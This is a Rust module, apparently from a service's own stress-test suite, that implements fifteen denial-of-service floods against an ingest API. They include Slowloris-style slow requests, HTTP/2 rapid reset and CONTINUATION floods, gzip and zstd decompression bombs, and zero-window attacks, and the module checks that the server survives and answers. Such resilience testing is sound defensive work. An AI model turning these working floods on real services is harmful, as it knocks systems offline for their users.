//! The attacks. Each runs until its time is over and returns the number of its connections, streams or requests. When the
//! server closes a connection, which is a good reaction, the attack opens the next one.

use std::{
    future::Future,
    io::{self, Write as _},
    net::SocketAddr,
    pin::Pin,
    sync::LazyLock,
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep, sleep_until, timeout_at},
};

use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, call, deaf, frame,
    greeting, no_window, open,
};

/// Whom it is for, and how long.
#[derive(Clone, Debug)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) key: String,
    pub(crate) until: Instant,
}

/// What a flood has reached, once its time is over.
pub(crate) type Running = Pin<Box<dyn Future<Output = u64> + Send>>;
/// A flood, and what it is called.
pub(crate) type Attack = (&'static str, fn(Target) -> Running);

/// All of them.
pub(crate) const ATTACKS: &[Attack] = &[
    ("1,000 connections", |target| Box::pin(connections(target))),
    ("slow headers", |target| Box::pin(slow_headers(target))),
    ("slow bodies", |target| Box::pin(slow_bodies(target))),
    ("half-open streams", |target| Box::pin(half_open(target))),
    ("rapid reset", |target| Box::pin(rapid_reset(target))),
    ("CONTINUATION flood", |target| Box::pin(continuation(target))),
    ("SETTINGS flood", |target| {
        Box::pin(small_frames(target, SETTINGS, &[]))
    }),
    ("PING flood", |target| {
        Box::pin(small_frames(target, PING, &[7; 8]))
    }),
    ("10,000 streams", |target| Box::pin(many_streams(target))),
    ("gzip bombs", |target| Box::pin(bombs(target, "gzip"))),
    ("zstd bombs", |target| Box::pin(bombs(target, "zstd"))),
    ("1 MiB of [", |target| Box::pin(brackets(target))),
    ("messages over the limit", |target| {
        Box::pin(over_the_limit(target))
    }),
    ("responses never read", |target| Box::pin(never_read(target))),
    ("windows never opened", |target| Box::pin(no_windows(target))),
];

const INGEST: &str = "/openclone.v1.IngestService/Ingest";
const UNARY: &str = "/openclone.v1.IngestService/IngestBatch";

impl Target {
    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    /// Runs `client` again and again, so many at once, until the time is over; the number of those that ended.
    async fn crowd<F, C>(&self, size: usize, client: F) -> u64
    where
        F: Fn(Self) -> C,
        C: Future<Output = io::Result<u64>> + Send + 'static,
    {
        let mut crowd = JoinSet::new();
        let mut done = 0;
        let enter = |crowd: &mut JoinSet<_>| {
            let (until, running) = (self.until, client(self.clone()));
            crowd.spawn(async move { timeout_at(until, running).await });
        };
        for _ in 0..size {
            enter(&mut crowd);
        }
        while let Some(ended) = crowd.join_next().await {
            // who was turned away tries again, and not in a tight loop
            match ended.unwrap() {
                Ok(Ok(number)) => done += number,
                Ok(Err(_)) => {
                    done += 1;
                    sleep(Duration::from_millis(20)).await;
                }
                Err(_) => done += 1,
            }
            if !self.is_over() {
                enter(&mut crowd);
            }
        }
        done
    }

    fn post(&self, lines: &str) -> String {
        format!(
            "POST /api/v1/ingest HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {}\r\nContent-Type: application/json\r\n{lines}\r\n",
            self.key
        )
    }
}

async fn connections(target: Target) -> u64 {
    target
        .crowd(1000, |target| async move {
            let _idle = TcpStream::connect(target.address).await?;
            sleep_until(target.until).await;
            Ok(1)
        })
        .await
}

async fn slow_headers(target: Target) -> u64 {
    target
        .crowd(300, |target| async move {
            let mut stream = TcpStream::connect(target.address).await?;
            stream
                .write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n")
                .await?;
            loop {
                stream.write_all(b"a").await?;
                sleep(Duration::from_millis(100)).await;
            }
        })
        .await
}

/// Half of them send all but the last byte and wait, so that as much as possible is held for them.
async fn slow_bodies(target: Target) -> u64 {
    target
        .crowd(300, |target| async move {
            let is_large = rand_bit();
            let mut stream = TcpStream::connect(target.address).await?;
            let head = target.post("Content-Length: 1048576\r\n");
            stream.write_all(head.as_bytes()).await?;
            if is_large {
                stream.write_all(&vec![b' '; (1 << 20) - 1]).await?;
                let mut response = [0; 256];
                return stream.read(&mut response).await.map(|_| 1);
            }
            loop {
                stream.write_all(b" ").await?;
                sleep(Duration::from_millis(100)).await;
            }
        })
        .await
}

/// Streams that begin a message of 4 MiB and send most of it.
async fn half_open(target: Target) -> u64 {
    target
        .crowd(8, |target| async move {
            let mut stream = open(target.address, &[]).await?;
            let mut opened = 0;
            for number in 0..32_u32 {
                let id = 2 * number + 1;
                let path = if number % 2 == 0 { INGEST } else { UNARY };
                let head = call(path, Some(&target.key));
                stream.write_all(&frame(HEADERS, END_HEADERS, id, &head)).await?;
                stream.write_all(&frame(DATA, 0, id, &[0, 0, 0x40, 0, 0])).await?;
                opened += 1;
            }
            // windows are not looked at: what the server allows at first is 512 KiB a stream, 1 MiB in all
            for number in 0..60_u32 {
                let id = 2 * (number % 2) + 1;
                stream.write_all(&frame(DATA, 0, id, &vec![7; 16 << 10])).await?;
            }
            sleep_until(target.until).await;
            Ok(opened)
        })
        .await
}

async fn rapid_reset(target: Target) -> u64 {
    target
        .crowd(8, |target| async move {
            let mut stream = open(target.address, &[]).await?;
            let head = call("/healthz", None);
            let mut bytes = Vec::new();
            for number in 0..500_000_u32 {
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &head));
                bytes.extend(frame(RST_STREAM, 0, 2 * number + 1, &8_u32.to_be_bytes()));
                if number % 64 == 63 {
                    stream.write_all(&bytes).await?;
                    bytes.clear();
                }
            }
            Ok(1)
        })
        .await
}

async fn continuation(target: Target) -> u64 {
    target
        .crowd(8, |target| async move {
            let mut stream = open(target.address, &[]).await?;
            let head = call("/healthz", None);
            stream.write_all(&frame(HEADERS, 0, 1, &head)).await?;
            let mut junk = vec![0, 5];
            junk.extend_from_slice(b"x-aaa");
            junk.push(100);
            junk.extend_from_slice(&[b'a'; 100]);
            let junk = junk.repeat(100);
            loop {
                stream.write_all(&frame(CONTINUATION, 0, 1, &junk)).await?;
            }
        })
        .await
}

async fn small_frames(target: Target, kind: u8, payload: &'static [u8]) -> u64 {
    target
        .crowd(4, move |target| async move {
            let mut stream = open(target.address, &[]).await?;
            let frames = frame(kind, 0, 0, payload).repeat(256);
            loop {
                stream.write_all(&frames).await?;
            }
        })
        .await
}

async fn many_streams(target: Target) -> u64 {
    target
        .crowd(1, |target| async move {
            let mut stream = open(target.address, &[]).await?;
            let head = call(INGEST, Some(&target.key));
            for number in 0..10_000_u32 {
                stream
                    .write_all(&frame(HEADERS, END_HEADERS, 2 * number + 1, &head))
                    .await?;
            }
            sleep_until(target.until).await;
            Ok(10_000)
        })
        .await
}

/// 64 MiB of spaces, of which some hundred KiB go over the wire: as a JSON body, and as a gRPC message.
async fn bombs(target: Target, coding: &'static str) -> u64 {
    let bomb: &'static [u8] = if coding == "gzip" { &GZIP } else { &ZSTD };
    target
        .crowd(16, move |target| async move {
            if rand_bit() {
                let head = format!("Content-Encoding: {coding}\r\nContent-Length: {}\r\n", bomb.len());
                let mut stream = TcpStream::connect(target.address).await?;
                stream.write_all(target.post(&head).as_bytes()).await?;
                stream.write_all(bomb).await?;
                return is_answered(&mut stream, "413").await;
            }
            let mut stream = open(target.address, &[]).await?;
            let mut head = call(UNARY, Some(&target.key));
            head.extend(super::wire::headers(&[("grpc-encoding", coding)]));
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &head)).await?;
            let mut message = vec![1];
            message.extend_from_slice(&u32::try_from(bomb.len()).unwrap().to_be_bytes());
            message.extend_from_slice(bomb);
            for piece in message.chunks(16 << 10) {
                stream.write_all(&frame(DATA, 0, 1, piece)).await?;
            }
            stream.write_all(&frame(DATA, END_STREAM, 1, &[])).await?;
            sleep(Duration::from_millis(100)).await;
            Ok(1)
        })
        .await
}

/// 64 MiB of spaces.
static GZIP: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let mut to = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    (0..64).for_each(|_| to.write_all(&[b' '; 1 << 20]).unwrap());
    to.finish().unwrap()
});
static ZSTD: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let mut to = zstd::Encoder::new(Vec::new(), 3).unwrap();
    (0..64).for_each(|_| to.write_all(&[b' '; 1 << 20]).unwrap());
    to.finish().unwrap()
});

/// Makes what takes a while, before the time begins.
pub(crate) fn prepare() {
    LazyLock::force(&GZIP);
    LazyLock::force(&ZSTD);
}

async fn brackets(target: Target) -> u64 {
    target
        .crowd(8, |target| async move {
            let mut stream = TcpStream::connect(target.address).await?;
            let head = target.post("Content-Length: 1048576\r\n");
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&vec![b'['; 1 << 20]).await?;
            is_answered(&mut stream, "400").await
        })
        .await
}

/// A length of 1 GiB, a body of chunks without an end, and a gRPC message said to have 4 GiB.
async fn over_the_limit(target: Target) -> u64 {
    target
        .crowd(12, |target| async move {
            let mut stream = TcpStream::connect(target.address).await?;
            if rand_bit() {
                let head = target.post("Content-Length: 1073741824\r\n");
                stream.write_all(head.as_bytes()).await?;
                return is_answered(&mut stream, "413").await;
            }
            if rand_bit() {
                let head = target.post("Transfer-Encoding: chunked\r\n");
                stream.write_all(head.as_bytes()).await?;
                loop {
                    let chunk = [b"4000\r\n".as_slice(), &[b' '; 0x4000], b"\r\n"].concat();
                    stream.write_all(&chunk).await?;
                }
            }
            let mut stream = open(target.address, &[]).await?;
            let head = call(INGEST, Some(&target.key));
            stream.write_all(&frame(HEADERS, END_HEADERS, 1, &head)).await?;
            stream
                .write_all(&frame(DATA, 0, 1, &[0, 255, 255, 255, 255, 1, 2, 3]))
                .await?;
            sleep(Duration::from_millis(200)).await;
            Ok(1)
        })
        .await
}

/// Over HTTP/2 with windows of nothing, and over HTTP/1 one request after another; no response is read.
async fn never_read(target: Target) -> u64 {
    target
        .crowd(100, |target| async move {
            let mut stream = deaf(target.address).await?;
            if rand_bit() {
                stream.write_all(&greeting(&no_window())).await?;
                let head = call("/openapi.json", None);
                for number in 0..256_u32 {
                    stream
                        .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &head))
                        .await?;
                }
                sleep_until(target.until).await;
                return Ok(256);
            }
            loop {
                stream
                    .write_all(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n")
                    .await?;
            }
        })
        .await
}

/// Over HTTP/2, what the server says is read, but nothing of any response is let through.
async fn no_windows(target: Target) -> u64 {
    target
        .crowd(50, |target| async move {
            let mut stream = open(target.address, &no_window()).await?;
            let head = call("/openapi.json", None);
            for number in 0..256_u32 {
                let ends = END_HEADERS | END_STREAM;
                stream
                    .write_all(&frame(HEADERS, ends, 2 * number + 1, &head))
                    .await?;
            }
            sleep_until(target.until).await;
            Ok(256)
        })
        .await
}

/// Whether the response has this status: 1 if so, else the test fails.
async fn is_answered(stream: &mut TcpStream, status: &str) -> io::Result<u64> {
    let mut response = [0; 64];
    let read = stream.read(&mut response).await?;
    let line = String::from_utf8_lossy(&response[..read]).into_owned();
    // 503 is an honest response under a flood
    assert!(
        line.contains(status) || line.contains("503") || read == 0,
        "{line}"
    );
    Ok(1)
}

fn rand_bit() -> bool {
    use std::sync::atomic::{AtomicU64, Ordering};
    static NEXT: AtomicU64 = AtomicU64::new(0);
    NEXT.fetch_add(1, Ordering::Relaxed).is_multiple_of(2)
}
